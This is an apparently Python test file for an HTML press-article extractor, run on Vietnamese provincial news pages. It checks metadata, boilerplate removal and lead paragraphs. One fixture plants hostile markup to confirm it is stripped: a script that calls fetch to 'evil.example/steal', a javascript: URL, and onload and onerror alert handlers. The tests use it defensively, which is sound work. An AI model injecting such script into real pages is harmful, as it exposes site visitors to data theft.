"""HTML press articles: main text, metadata, boilerplate dropped, hostile markup harmless."""

from __future__ import annotations

from datetime import date

from parlens.ingest import read_bytes

ARTICLE = """<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Tỉnh đẩy mạnh cải cách hành chính - Báo Sông Mã</title>
<meta property="og:site_name" content="Báo Sông Mã">
<meta property="og:url" content="https://baosongma.example.vn/cchc-2026.html">
<link rel="canonical" href="https://baosongma.example.vn/cchc-2026.html">
<meta property="article:published_time" content="2026-03-12T08:30:00+07:00">
<script>document.write('CHÈN MÃ ĐỘC'); fetch('https://evil.example/steal')</script>
<style>body {{ background: url(javascript:alert(1)) }}</style></head>
<body onload="alert('x')"><nav><ul><li><a href="/">Trang chủ</a></li><li><a href="/ts">Thời sự</a></li></ul></nav>
<article><h1>Tỉnh đẩy mạnh cải cách hành chính</h1>
<p>Sáng 12/3, Ủy ban nhân dân tỉnh tổ chức hội nghị triển khai nhiệm vụ cải cách hành chính năm 2026 với sự tham dự của lãnh đạo các sở, ban, ngành.</p>
<p>Chủ tịch UBND tỉnh giao Sở Nội vụ chủ trì theo dõi Chỉ số cải cách hành chính và báo cáo kết quả trước ngày 15/12.<script>alert('trong bài')</script></p>
<h2>Nhiệm vụ trọng tâm</h2><ul><li>Rà soát, cắt giảm thủ tục hành chính không cần thiết</li><li>Số hóa hồ sơ tại bộ phận một cửa</li></ul>
<p>Các địa phương được yêu cầu công khai kết quả giải quyết hồ sơ trên cổng dịch vụ công của tỉnh.</p>
<img src=x onerror="alert(1)">
<h3>Tin cùng chuyên mục</h3><ul><li><a href="/a">Hội nghị tổng kết công tác thi đua khen thưởng</a></li>
<li><a href="/b">Khai mạc lễ hội du lịch biển</a></li></ul></article>
<div class="comments"><h3>Bình luận</h3><p>Bạn đọc Nam: bài viết rất hay.</p></div>
<footer>Bản quyền thuộc Báo Sông Mã</footer></body></html>"""


def test_press_metadata():
    doc = read_bytes(ARTICLE.encode(), "bai-bao.html")
    m = doc.metadata
    assert (m.doc_type, m.title, m.issued_on) == ("Bài báo", "Tỉnh đẩy mạnh cải cách hành chính", date(2026, 3, 12))
    assert (m.publisher, m.source_url) == ("Báo Sông Mã", "https://baosongma.example.vn/cchc-2026.html")
    assert m.number is None and m.issuer is None
    assert doc.media_type == "text/html"


def test_main_text_kept_boilerplate_dropped():
    doc = read_bytes(ARTICLE.encode(), "bai-bao.html")
    assert doc.blocks[0].kind == "heading" and doc.blocks[0].text == "Tỉnh đẩy mạnh cải cách hành chính"
    assert "Sở Nội vụ chủ trì theo dõi Chỉ số cải cách hành chính" in doc.text
    assert [b.text for b in doc.blocks if b.kind == "list_item"] == [
        "- Rà soát, cắt giảm thủ tục hành chính không cần thiết", "- Số hóa hồ sơ tại bộ phận một cửa"]
    for dropped in ("Trang chủ", "Tin cùng chuyên mục", "thi đua khen thưởng", "Bạn đọc Nam", "Bản quyền"):
        assert dropped not in doc.text
    for b in doc.blocks:
        assert doc.text[b.start:b.end] == b.text


def test_hostile_markup_never_reaches_the_text():
    doc = read_bytes(ARTICLE.encode(), "bai-bao.html")
    for bad in ("CHÈN MÃ ĐỘC", "alert", "evil.example", "javascript", "onerror", "<script"):
        assert bad not in doc.text


def test_page_with_no_article_falls_back_to_visible_text():
    html = "<html><head><script>var x='ẩn';</script></head><body><div>Sở Nội vụ thông báo lịch họp.</div></body></html>"
    doc = read_bytes(html.encode(), "p.html")
    assert "Sở Nội vụ thông báo lịch họp." in doc.text and "var x" not in doc.text


LEAD = "Tỉnh Quảng Ngãi giao Sở Nội vụ rà soát toàn bộ quy trình nội bộ giải quyết thủ tục hành chính trong quý II."
PAGE_WITH_BOLD_LEAD = f"""<html><head><title>Quảng Ngãi rà soát quy trình nội bộ</title>
<meta name="description" content="{LEAD}"></head><body>
<nav><a href="/">Trang chủ</a> <a href="/thoi-su">Thời sự</a></nav>
<article><h1>Quảng Ngãi rà soát quy trình nội bộ giải quyết thủ tục hành chính</h1>
<div class="article-meta"><span class="author">Minh Anh</span> - <time datetime="2026-04-02">02/04/2026</time></div>
<p class="sapo"><strong>{LEAD}</strong></p>
<div class="article-content">
<p>Theo kế hoạch, các sở, ban, ngành cập nhật quy trình điện tử trên Hệ thống thông tin giải quyết thủ tục hành chính của tỉnh và công khai kết quả rà soát.</p>
<p>Việc rà soát nhằm rút ngắn thời gian xử lý hồ sơ, giảm số bước chuyển hồ sơ giấy giữa các bộ phận chuyên môn.</p>
</div></article></body></html>"""


def test_bold_lead_paragraph_is_kept_once():
    doc = read_bytes(PAGE_WITH_BOLD_LEAD.encode("utf-8"), "bai-bao.html")
    assert doc.text.count("rà soát toàn bộ quy trình nội bộ") == 1
    assert doc.text.index("rà soát toàn bộ") < doc.text.index("Theo kế hoạch")


def test_description_that_is_not_shown_on_the_page_is_not_taken():
    hidden = PAGE_WITH_BOLD_LEAD.replace(f'<p class="sapo"><strong>{LEAD}</strong></p>',
                                         f'<p class="sapo" style="display: none">{LEAD}</p>')
    doc = read_bytes(hidden.encode("utf-8"), "bai-bao.html")
    assert "rà soát toàn bộ quy trình nội bộ" not in doc.text
